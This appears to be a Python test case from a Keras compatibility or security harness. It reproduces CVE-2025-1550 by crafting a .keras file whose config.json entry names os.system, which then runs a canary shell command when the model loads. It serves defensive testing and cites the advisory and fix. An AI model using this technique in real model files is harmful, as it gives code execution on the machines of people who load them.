"""A config.json entry that names os.system through module/class_name (CVE-2025-1550).

Keras 3 rebuilds a Functional model from its config by deserializing every entry of its layer list and
then calling each with its node's arguments. Up to 3.8 the entry's "module" may be any importable module
(serialization_lib._retrieve_class_or_fn imports it) and the object need not be a layer, so an entry
naming os.system is called with the node's string argument while the model loads. Keras 3.9 allows only
Keras's own packages and only layers there (GHSA-48g7-3x6r-xfhp). The command appends the phase to
$KC_CANARY. A Keras 2 config has no such entries: its nodes pass only tensors.
"""
import numpy as np
import tensorflow as tf

from runner.harness import crafting

keras = tf.keras

SOURCE = "https://github.com/keras-team/keras/security/advisories/GHSA-48g7-3x6r-xfhp"
CLAIM = "A crafted config.json runs arbitrary Python functions with their arguments during load_model, even with safe_mode=True (fixed in Keras 3.9)."
FIX = "Upgrade to Keras >= 3.9; load only files you trust, in a sandbox (keras-compat check --sandbox)."
CANARY = True
# What a vector does depends on the Keras that loads it, not the one that wrote it: each env loads the file
# it crafted itself (the vector table), not other envs' copies.
PAIRS = "same"

x = np.linspace(-1.0, 1.0, 12, dtype="float32").reshape(3, 4)
y = x * 3.0


def build():
    inputs = keras.Input(shape=(4,))
    hidden = keras.layers.Dense(4, name="dense")(inputs)
    return keras.Model(inputs, keras.layers.Dense(4, name="out")(hidden))


def craft(fmt, path, model):
    crafting.require_zip(fmt, path, "the vector is an entry of a .keras zip's config.json")
    crafting.require_keras3("an entry that is a function called with its node's arguments")
    crafting.add_layers(path, [crafting.bare_function_layer("kc_callable", "os", "system", [crafting.SHELL_MARKER])])


# %% train

# %% serve

# %% rebuild
